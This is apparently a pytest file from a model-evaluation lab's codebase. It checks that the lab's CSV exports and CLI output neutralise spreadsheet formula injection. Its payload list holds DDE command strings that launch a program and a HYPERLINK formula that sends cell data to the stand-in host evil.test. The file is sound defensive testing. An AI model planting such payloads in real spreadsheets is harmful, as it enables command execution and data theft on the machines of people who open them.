"""Spreadsheet formulas: what leaves the lab as a table for spreadsheets is text, wherever it came from."""

import csv
import io
import re

import pytest
from click.testing import CliRunner
from colours import evaluated

from lab import exports, scoreboard
from lab.cli import cli

PAYLOADS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\u3000@SUM(1)",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "a;=1+1",
    "a\t=1+1",
    'a";=1+1',
    '",=1+1,"',
    "a\n=1+1",
    "a\r\n=1+1",
    "\u2028=1+1",
    '=HYPERLINK("http://evil.test?x="&A1,"click")',
    "%0A-3+3+cmd|' /C calc'!D2",
]
# Ways to write a table for spreadsheets: by a library, or cells put together by hand.
WRITER = re.compile(
    r"csv\.writer|DictWriter|to_csv|write_csv|CSVWriter|from csv import|"
    r"""["'](?:,|;|\\t)["']\.join|\}(?:,|;|\\t)\{[^"']*\\n["']"""
)
STARTS = tuple("=+-@＝＋－＠")


def sheets(text: str) -> list[list[str]]:
    """The cells of a csv file as spreadsheets of several countries read them: each takes another mark for the separator,
    and none keeps blanks before a formula."""
    return [
        [cell.strip() for row in csv.reader(io.StringIO(text, newline=""), delimiter=mark) for cell in row]
        for mark in ",;\t"
    ]


@pytest.fixture(scope="module")
def compared(trained_home, tmp_path_factory) -> list[dict]:
    return scoreboard.compare(evaluated(trained_home, ["base", "tiny-1"]))[0]


@pytest.mark.faults
@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize("field", ["subject", "decoding"])
def test_no_cell_of_a_table_begins_a_formula(compared, payload, field):
    """Seen to fail with `harmless` returning its cell, and with `INNER_FORMULA` not looked for: a spreadsheet that separates
    by semicolons found a formula behind one."""
    objects = [dict(x) for x in compared]
    objects[0][field] = payload
    assert any(payload.strip()[-2:] in cell for cell in sheets(exports.as_csv(objects, []))[0])
    for cells in sheets(exports.as_csv(objects, [])):
        assert not [cell for cell in cells if cell.startswith(STARTS)]


@pytest.mark.faults
def test_a_table_says_what_it_said_before(compared):
    """Numbers, intervals and dashes are not touched. Seen to fail with a quote put before every cell."""
    headers, rows = exports.table(compared)
    read = list(csv.reader(io.StringIO(exports.as_csv(compared, []), newline="")))
    assert read == [headers, *rows]


@pytest.mark.faults
def test_the_command_line_prints_the_same_table(trained_home):
    """Seen to fail with `--csv` printing Markdown."""
    said = CliRunner().invoke(cli, ["compare", "base", "tiny-1", "--csv", "--home", str(trained_home.path)])
    assert said.exit_code == 0, said.output
    assert said.stdout.startswith("subject,")


@pytest.mark.faults
def test_no_cell_that_the_command_line_prints_begins_a_formula(trained_home, compared, monkeypatch):
    """Seen to fail with `harmless` returning its cell."""
    words = ["compare", "base", "tiny-1", "--csv", "--home", str(trained_home.path)]
    for payload in PAYLOADS:
        objects = [{**compared[0], "subject": payload, "decoding": payload}, *compared[1:]]
        monkeypatch.setattr(scoreboard, "compare", lambda *given, objects=objects: (objects, []))
        said = CliRunner().invoke(cli, words)
        assert said.exit_code == 0, said.output
        for cells in sheets(said.stdout):
            assert not [cell for cell in cells if cell.startswith(STARTS)], payload


@pytest.mark.faults
def test_all_tables_of_spreadsheets_are_made_in_one_place():
    """A new writer of csv files must neutralise, too; the other one here writes a cell of the label editor. Seen to
    fail with a `csv.writer` in another module."""
    from test_layers import FILES, name_of

    found = [name_of(path) for path in FILES if WRITER.search(path.read_text())]
    assert sorted(found) == ["exports.py", "ui/label_table.py"]


@pytest.mark.faults
@pytest.mark.parametrize(
    "code",
    [
        *("csv.writer(file)", "csv.DictWriter(file, names)", "frame.to_csv(path)", "pa_csv.write_csv(table, path)"),
        *("from csv import writer", "pyarrow.csv.CSVWriter(path, schema)", '",".join(cells)', "';'.join(row)"),
        *('"\\t".join(row)', "line = f'{a},{b}\\n'"),
    ],
)
def test_this_test_would_notice(code):
    assert WRITER.search(code)
